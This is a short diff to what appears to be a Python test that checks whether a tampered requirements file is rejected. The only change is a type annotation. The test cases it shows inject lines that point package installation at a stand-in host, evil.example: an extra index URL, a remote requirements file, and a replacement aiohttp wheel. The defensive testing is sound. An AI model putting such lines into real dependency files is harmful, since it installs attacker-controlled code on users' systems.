@@ -58,7 +58,7 @@ def complaint(content: str | bytes) -> str:
 
 TRUE = files_of()["environment.txt"].decode()
 UNHEARD_OF, OTHERWISE = "neither a distribution nor a hash", "not what its record says was installed"
-LIES = {
+LIES: dict[str, tuple[str | bytes, str]] = {
     "another index": (f"--index-url https://evil.example/simple\n{TRUE}", UNHEARD_OF),
     "another file": (f"-r https://evil.example/more.txt\n{TRUE}", UNHEARD_OF),
     "an address": (TRUE.replace("aiohttp==3.14.5", "aiohttp @ https://evil.example/a.whl"), UNHEARD_OF),
